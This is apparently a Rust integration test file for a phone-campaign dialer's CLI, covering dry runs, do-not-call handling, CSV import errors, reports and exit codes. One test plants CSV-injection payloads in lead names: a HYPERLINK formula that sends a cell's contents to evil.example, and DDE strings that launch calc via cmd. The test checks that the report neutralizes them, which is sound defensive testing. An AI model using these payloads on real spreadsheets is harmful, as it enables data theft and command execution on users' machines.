//! The dialer's other commands end to end (the binary, a temporary store,
//! the fake agent where calls are needed): `run --dry-run` (window, DNC,
//! attempts, not due), the DNC list, CSV import errors, `report` and
//! `show`, quiet runs and exit codes, and the progress bar on a terminal.

mod campaign_support;

use std::process::Stdio;
use std::time::Duration;

use callbridge_crm_store::{LeadStatus, Outcome, PhoneNumber};
use campaign_support::fake_agent::{FakeAgent, Script, answer, run_args};
use campaign_support::*;

const MS: fn(u64) -> Duration = Duration::from_millis;

#[test]
fn dry_run_lists_due_leads_and_says_why_others_are_skipped() {
    let env = Env::new();
    // A window open now in UTC (the hour around now), closed in a zone 12 h away.
    let now = jiff::Timestamp::now().to_zoned(jiff::tz::TimeZone::UTC);
    let start = (now.hour() as u16 * 60 + now.minute() as u16 + 1440 - 60) % 1440;
    let end = (start + 120) % 1440;
    let window = format!(
        "{:02}:{:02}-{:02}:{:02}",
        start / 60,
        start % 60,
        end / 60,
        end % 60
    );
    let c = env.campaign(
        "window",
        0,
        &[
            "--window",
            &window,
            "--days",
            "all",
            "--tz",
            "UTC",
            "--max-attempts",
            "1",
            "--concurrency",
            "5",
        ],
    );
    let csv = format!(
        "phone,time_zone\n{},\n{},Pacific/Kiritimati\n{},\n{},\n",
        number(0),
        number(1),
        number(2),
        number(3)
    );
    let f = env.file("w.csv", &csv);
    env.ok(&["import", "window", f.to_str().unwrap()]);
    env.ok(&["dnc", "add", &number(2)]);
    // Leads 0 and 3 use their only attempt (lead 1's window is closed,
    // lead 2 is on the DNC list: the claim hands out just these two).
    {
        let mut s = env.store();
        let now = jiff::Timestamp::now();
        let claimed = s.claim_due_leads(c.id, now, 10).unwrap();
        assert_eq!(claimed.len(), 2);
        for cl in claimed {
            s.record_attempt(cl.lead.id, Outcome::Busy, None, now)
                .unwrap();
        }
    }
    let out = env.ok(&["run", "window", "--dry-run"]);
    assert!(out.contains("would dial 0 leads"), "{out}");
    assert!(
        out.contains("outside the calling window in Pacific/Kiritimati"),
        "{out}"
    );
    assert!(
        out.contains("status do-not-call") || out.contains("on the do-not-call list"),
        "{out}"
    );
    assert!(out.contains("status failed"), "{out}");
    // The zone's window really is closed for the claim too: nothing dialled.
    let agent = FakeAgent::start(&env.url, answer(100));
    let run = env.run(&run_args("window", &agent.url()));
    assert!(run.status.success(), "{}", show(&run));
    assert!(agent.seen(|s| s.posts_per_lead.is_empty()));
}

#[test]
fn dry_run_reports_not_due_and_due_leads() {
    let env = Env::new();
    let c = env.campaign("due", 2, &["--retry-busy", "1h"]);
    {
        let mut s = env.store();
        let now = jiff::Timestamp::now();
        let cl = s.claim_due_leads(c.id, now, 1).unwrap();
        s.record_attempt(cl[0].lead.id, Outcome::Busy, None, now)
            .unwrap();
    }
    let out = env.ok(&["run", "due", "--dry-run"]);
    assert!(out.contains("would dial 1 lead now"), "{out}");
    assert!(out.contains("(attempt 1)"), "{out}");
    assert!(out.contains("not due until"), "{out}");
}

#[test]
fn a_dnc_number_is_never_dialled_even_when_imported_later() {
    let env = Env::new();
    env.ok(&["dnc", "add", &number(1), "--reason", "asked by phone"]);
    let c = env.campaign("dnc", 3, &["--concurrency", "3", "--rate", "600/min"]);
    // Added to the list after import: also never dialled.
    env.ok(&["dnc", "add", &number(2)]);
    let list = env.ok(&["dnc", "list", "--show-numbers"]);
    assert!(
        list.contains(&number(1)) && list.contains(&number(2)),
        "{list}"
    );
    // Masked unless asked (issue 22).
    let masked = env.ok(&["dnc", "list"]);
    assert!(
        !masked.contains(&number(1)) && masked.contains('*'),
        "{masked}"
    );
    let agent = FakeAgent::start(&env.url, answer(100));
    let out = env.run(&run_args("dnc", &agent.url()));
    assert!(out.status.success(), "{}", show(&out));
    let leads = env.leads(&c);
    assert_eq!(leads[0].status, LeadStatus::Done);
    assert_eq!(leads[1].status, LeadStatus::DoNotCall);
    assert_eq!(leads[2].status, LeadStatus::DoNotCall);
    assert_eq!(agent.seen(|s| s.posts_per_lead.len()), 1);
    assert!(env.sessions(&c).iter().all(|s| s.lead == Some(leads[0].id)));
    // Removing it does not revive its leads.
    env.ok(&["dnc", "remove", &number(2)]);
    assert!(
        !env.store()
            .is_dnc(&PhoneNumber::parse(&number(2)).unwrap())
            .unwrap()
    );
}

#[test]
fn import_with_a_bad_row_names_its_line_and_imports_nothing() {
    let env = Env::new();
    let c = env.campaign("import", 0, &[]);
    let f = env.file(
        "bad.csv",
        &format!(
            "phone,name\n{},Ada\n12345,Bob\n{},Cy\n",
            number(0),
            number(1)
        ),
    );
    let out = env.run(&["import", "import", f.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("bad.csv:3: phone"), "{stderr}");
    assert!(env.leads(&c).is_empty());
}

#[test]
fn report_has_one_row_per_call_in_every_format_and_show_has_the_funnel() {
    let env = Env::new();
    let c = env.campaign("report", 2, &["--concurrency", "2", "--rate", "600/min"]);
    let agent = FakeAgent::start(&env.url, |to| match index_of(to) {
        0 => Script::Answer(MS(50), MS(300)),
        _ => Script::Busy(MS(50)),
    });
    assert!(env.run(&run_args("report", &agent.url())).status.success());
    let json = env.ok(&["report", "report", "--format", "json"]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    assert_eq!(rows.len(), 2);
    let by_phone = |p: &str| rows.iter().find(|r| r["phone"] == p).unwrap().clone();
    let a = by_phone(&number(0));
    assert_eq!(a["outcome"], "completed");
    assert_eq!(a["name"], "Lead 0");
    assert!(a["duration_s"].as_f64().unwrap() > 0.2);
    let b = by_phone(&number(1));
    assert_eq!(
        (b["outcome"].as_str(), b["sip_status"].as_u64()),
        (Some("busy"), Some(486))
    );
    let csv = env.ok(&["report", "report", "--format", "csv"]);
    assert_eq!(csv.lines().count(), 3, "{csv}");
    assert!(csv.starts_with("started,session,lead,phone,name,outcome"));
    let table = env.ok(&["report", "report"]);
    assert_eq!(table.lines().count(), 3, "{table}");
    let since = env.ok(&[
        "report",
        "report",
        "--since",
        "2099-01-01T00:00:00Z",
        "--format",
        "csv",
    ]);
    assert_eq!(since.lines().count(), 1, "{since}");
    let show_out = env.ok(&["show", "report"]);
    assert!(
        show_out.contains("completed    1") && show_out.contains("busy         1"),
        "{show_out}"
    );
    assert!(show_out.contains("answer rate 50.0%"), "{show_out}");
    assert!(show_out.contains("done         1"), "{show_out}");
    let _ = c;
}

/// CSV injection (OWASP): lead names an attacker controls (an imported
/// list, a CRM sync) must reach a spreadsheet as text, never as formulas.
#[test]
fn csv_injection_in_lead_names_is_neutralized_in_the_csv_report() {
    let env = Env::new();
    let c = env.campaign("inject", 0, &[]);
    let from_file = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    let mut csv = String::from("phone,name\n");
    for (i, name) in from_file.iter().enumerate() {
        csv.push_str(&format!(
            "{},\"{}\"\n",
            number(i as u32),
            name.replace('"', "\"\"")
        ));
    }
    let f = env.file("inject.csv", &csv);
    env.ok(&["import", "inject", f.to_str().unwrap()]);
    // Import trims names; a tab or CR in front comes from other writers.
    let direct = ["\t=1+1", "\r=1+1"];
    let now = jiff::Timestamp::now();
    let mut store = env.store();
    let leads: Vec<_> = direct
        .iter()
        .enumerate()
        .map(|(i, n)| {
            let mut l = callbridge_crm_store::NewLead::new(
                PhoneNumber::parse(&number(10 + i as u32)).unwrap(),
            );
            l.name = Some(callbridge_crm_store::PersonName::new(*n).unwrap());
            l
        })
        .collect();
    store.add_leads(c.id, &leads, now).unwrap();
    for lead in env.leads(&c) {
        let id = callbridge_crm_store::SessionId::new_v4();
        let mut s = callbridge_crm_store::NewSession::outbound(id, now);
        s.campaign = Some(c.id);
        s.lead = Some(lead.id);
        store.create_session(&s).unwrap();
    }
    let out = env.ok(&["report", "inject", "--format", "csv"]);
    let mut rdr = csv::Reader::from_reader(out.as_bytes());
    let names: Vec<String> = rdr.records().map(|r| r.unwrap()[4].to_owned()).collect();
    assert_eq!(names.len(), from_file.len() + direct.len(), "{out}");
    for name in from_file.iter().chain(&direct) {
        let quoted = format!("'{name}");
        assert!(
            names.contains(&quoted),
            "{name:?} not neutralized: {names:?}"
        );
    }
    let phones: Vec<String> = csv::Reader::from_reader(out.as_bytes())
        .records()
        .map(|r| r.unwrap()[3].to_owned())
        .collect();
    assert!(
        phones.contains(&number(0)),
        "E.164 numbers are written as is: {phones:?}"
    );
}

#[test]
fn paused_campaign_and_nothing_due_are_quiet_exit_0_and_bad_usage_is_exit_2() {
    let env = Env::new();
    let c = env.campaign("quiet", 1, &["--paused"]);
    let agent = FakeAgent::start(&env.url, answer(100));
    let out = env.run(&run_args("quiet", &agent.url()));
    assert!(
        out.status.success() && out.stdout.is_empty(),
        "{}",
        show(&out)
    );
    assert_eq!(env.leads(&c)[0].attempts, 0);
    env.ok(&["resume", "quiet"]);
    assert!(env.run(&run_args("quiet", &agent.url())).status.success());
    // Everything done: quiet.
    let out = env.run(&run_args("quiet", &agent.url()));
    assert!(
        out.status.success() && out.stdout.is_empty(),
        "{}",
        show(&out)
    );
    for bad in [
        vec!["create", "x", "--window", "9-18"],
        vec!["create", "x", "--rate", "0/min"],
        vec!["run", "no-such-campaign"],
        vec!["frobnicate"],
    ] {
        let out = env.run(&bad);
        assert_eq!(out.status.code(), Some(2), "{bad:?}: {}", show(&out));
    }
    let p = env.file("p.txt", "prompt");
    let out = env.run(&[
        "create",
        "y",
        "--prompt-file",
        p.to_str().unwrap(),
        "--tz",
        "Mars/Base",
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    let out = env.run(&["list"]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("quiet"));
}

#[test]
fn on_a_terminal_the_run_draws_a_progress_bar_with_live_done_and_remaining() {
    let env = Env::new();
    let c = env.campaign("tty", 4, &["--concurrency", "2", "--rate", "600/min"]);
    let agent = FakeAgent::start(&env.url, answer(600));
    // util-linux `script` gives the run a pseudo-terminal as stdout.
    let cmdline = format!(
        "{} run tty --agent {} --poll 50ms",
        bins::CAMPAIGN,
        agent.url()
    );
    let mut script = std::process::Command::new("script");
    script
        .args(["-qec", &cmdline, "/dev/null"])
        .env("CALLBRIDGE_STORE_DATABASE", &env.db)
        .env("CALLBRIDGE_TOKEN", &env.token)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let out = wait_bounded(script.spawn().unwrap(), Duration::from_secs(30));
    assert!(out.status.success(), "{}", show(&out));
    let screen = String::from_utf8_lossy(&out.stdout);
    assert!(screen.contains("remaining"), "no bar drawn: {screen:?}");
    assert!(screen.contains("live "), "{screen:?}");
    // The per-call lines are still printed above the bar.
    assert_eq!(screen.matches("-> done").count(), 4, "{screen:?}");
    assert!(env.leads(&c).iter().all(|l| l.status == LeadStatus::Done));
}

/// `campaign --config agent.toml` finds the store in the agent's
/// configuration (no --db, no variables, no model key), and `report`
/// carries the leads' custom fields as columns, escaped like the rest
/// (issue 22).
#[test]
fn config_names_the_store_and_report_has_the_leads_custom_fields() {
    let env = Env::new();
    let c = env.campaign("fields", 0, &[]);
    let f = env.file(
        "fields.csv",
        &format!(
            "phone,name,plan,note\n{},Ann,gold,=HYPERLINK(\"http://evil.example\")\n{},Bob,silver,\n",
            number(0),
            number(1)
        ),
    );
    env.ok(&["import", "fields", f.to_str().unwrap()]);
    let now = jiff::Timestamp::now();
    let mut store = env.store();
    for lead in env.leads(&c) {
        let mut s = callbridge_crm_store::NewSession::outbound(
            callbridge_crm_store::SessionId::new_v4(),
            now,
        );
        s.campaign = Some(c.id);
        s.lead = Some(lead.id);
        store.create_session(&s).unwrap();
    }
    // The agent's configuration, with the database relative to it and a
    // model whose key is not in this environment.
    let db_name = env.db.file_name().unwrap().to_str().unwrap().to_owned();
    let agent_toml = env.file(
        "agent.toml",
        &format!(
            "[sip]\nbind = \"127.0.0.1:5060\"\n[model]\nprovider = \"gemini\"\n\
             [store]\ndatabase = \"{db_name}\"\nrecordings_dir = \"recordings\"\n"
        ),
    );
    let run = |args: &[&str]| {
        let out = env
            .cmd(args)
            .env_remove("CALLBRIDGE_STORE_DATABASE")
            .env_remove("CALLBRIDGE_STORE_URL")
            .env_remove("GEMINI_API_KEY")
            .output()
            .unwrap();
        assert!(out.status.success(), "campaign {args:?}: {}", show(&out));
        String::from_utf8(out.stdout).unwrap()
    };
    let cfg = agent_toml.to_str().unwrap();
    let out = run(&["--config", cfg, "report", "fields", "--format", "csv"]);
    let mut rdr = csv::Reader::from_reader(out.as_bytes());
    let header: Vec<String> = rdr.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(
        header[header.len() - 2..],
        ["field.note".to_owned(), "field.plan".to_owned()],
        "{out}"
    );
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let of = |name: &str| {
        rows.iter()
            .find(|r| &r[4] == name)
            .map(|r| {
                r.iter()
                    .rev()
                    .take(2)
                    .map(str::to_owned)
                    .collect::<Vec<_>>()
            })
            .unwrap()
    };
    assert_eq!(
        of("Ann"),
        ["gold", "'=HYPERLINK(\"http://evil.example\")"],
        "{out}"
    );
    assert_eq!(of("Bob")[0], "silver", "{out}");
    let table = run(&["--config", cfg, "report", "fields"]);
    assert!(
        table.lines().next().unwrap().contains(" fields "),
        "{table}"
    );
    assert!(table.contains("plan=silver"), "{table}");
    // Without any store: the error names --config first.
    let out = env
        .cmd(&["list"])
        .env_remove("CALLBRIDGE_STORE_DATABASE")
        .env_remove("CALLBRIDGE_STORE_URL")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("--config AGENT_TOML"),
        "{}",
        show(&out)
    );
}
